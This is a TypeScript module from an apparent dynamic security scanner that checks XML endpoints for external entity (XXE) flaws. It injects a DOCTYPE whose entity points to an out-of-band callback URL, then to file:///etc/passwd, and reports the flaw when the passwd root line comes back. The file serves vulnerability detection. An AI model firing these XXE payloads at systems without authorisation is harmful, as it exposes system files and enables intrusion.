/**
 * XML external entities, on endpoints that take XML (from the spec, or any JSON/form endpoint that also accepts
 * XML is not guessed): a document whose external entity points at the callback listener (the fetch with the
 * probe's token is the proof), then one pointing at /etc/passwd (the file's root line in the answer is the proof).
 */
import type { DastRun } from '../context.js';
import type { Endpoint } from '../endpoints.js';

const WAIT_MS = 1500;

/** Wraps a document root element: the endpoint's own XML body, with `&e;` in its first text node. */
function withEntity(xml: string | undefined, system: string): string {
  const body = (xml ?? '<root>x</root>').replace(/^<\?xml[^>]*\?>/, '');
  const root = /<([A-Za-z_][\w.-]*)/.exec(body)?.[1] ?? 'root';
  const withRef = /(<[^/!?][^>]*>)([^<]+)(<\/)/.test(body) ? body.replace(/(<[^/!?][^>]*>)([^<]+)(<\/)/, '$1&pg;$3') : `<${root}>&pg;</${root}>`;
  return `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE ${root} [<!ENTITY pg SYSTEM "${system}">]>${withRef}`;
}

/** XXE on one XML endpoint. */
export async function checkXxe(run: DastRun, e: Endpoint): Promise<void> {
  if (!run.enabled('dast-xxe') || e.bodyType !== 'xml') return;
  const param = { name: 'body', in: 'body' as const, value: e.xml ?? '' };
  if (run.oob) {
    const { token, url } = run.oob.token();
    const res = await run.probe(e, { param, value: withEntity(e.xml, url) });
    const hits = res ? await run.oob.waitFor(token, WAIT_MS) : [];
    if (res && hits.length) {
      run.report('dast-xxe', { endpoint: e, param: { ...param, name: 'body' }, message: `${e.method} ${e.pathTemplate} resolves external XML entities: the callback listener received ${hits[0]!.path}.`, res, data: { entity: 'callback' } });
      return;
    }
  }
  const res = await run.probe(e, { param, value: withEntity(e.xml, 'file:///etc/passwd') });
  const m = res && /root:[x*!]?:0:0:/.exec(res.body);
  if (res && m) {
    run.report('dast-xxe', { endpoint: e, param: { ...param, name: 'body' }, message: `${e.method} ${e.pathTemplate} expands external XML entities: an entity for file:///etc/passwd came back with the file's content.`, res, proof: m[0], data: { entity: 'file' } });
  }
}
